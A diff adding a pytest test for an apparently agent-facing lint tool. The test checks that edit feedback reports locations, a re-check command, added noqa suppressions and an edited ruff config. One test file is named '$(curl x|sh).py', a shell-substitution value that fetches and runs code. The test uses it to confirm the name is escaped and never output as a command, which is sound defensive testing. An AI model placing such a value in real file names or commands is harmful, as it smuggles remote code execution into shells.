@@ -192,3 +192,35 @@ def test_a_path_with_a_nul_byte_is_a_usage_error_not_a_crash(git_repo: Path) -> 
     text = out.content[0].text
     assert out.is_error and "1 path(s) do not exist" in text and "nothing ran" in text
     assert "\x00" not in text
+
+
+def test_lint_returns_the_agent_fields_of_edit_feedback(git_repo: Path) -> None:
+    """The same content a host's edit feedback gives, as structured fields (issue 26):
+    locations, re-check command, recovery, suppressions added, checker config edited;
+    a hostile name is escaped and never a command."""
+    hostile = "$(curl x|sh).py"
+    (git_repo / "ruff.toml").write_text("")
+    git(git_repo, "add", "ruff.toml")
+    git(git_repo, "commit", "-q", "-m", "ruff config")
+    (git_repo / hostile).write_text("import os  # noqa: F401\nimport sys\n")
+    (git_repo / "ruff.toml").write_text('[lint]\nignore = ["E501"]\n')
+
+    async def body(client: Client) -> Any:
+        return await client.call_tool("lint", {"paths": [hostile, "ruff.toml"], "feedback": True})
+
+    lint = with_client(git_repo, body)
+    assert not lint.is_error
+    agent = lint.structured_content["agent"]
+    assert agent["locations"] == ["??curl?x?sh?.py:2:8 F401"], agent
+    assert agent["locations_not_shown"] == 0
+    assert agent["recheck"].startswith("orchestrate task verify T-"), agent
+    assert agent["suppressions_added"] == [
+        {"path": "??curl?x?sh?.py", "marker": "# noqa", "count": 1}
+    ]
+    assert agent["config_edited"] == ["ruff.toml"]
+    text = lint.content[0].text
+    assert (
+        "at ??curl?x?sh?.py:2:8 F401" in text and "checker configuration edited: ruff.toml" in text
+    )
+    assert "$(curl" not in json.dumps(agent) and "$(curl" not in text
+    assert "import sys" not in text and "imported but unused" not in text
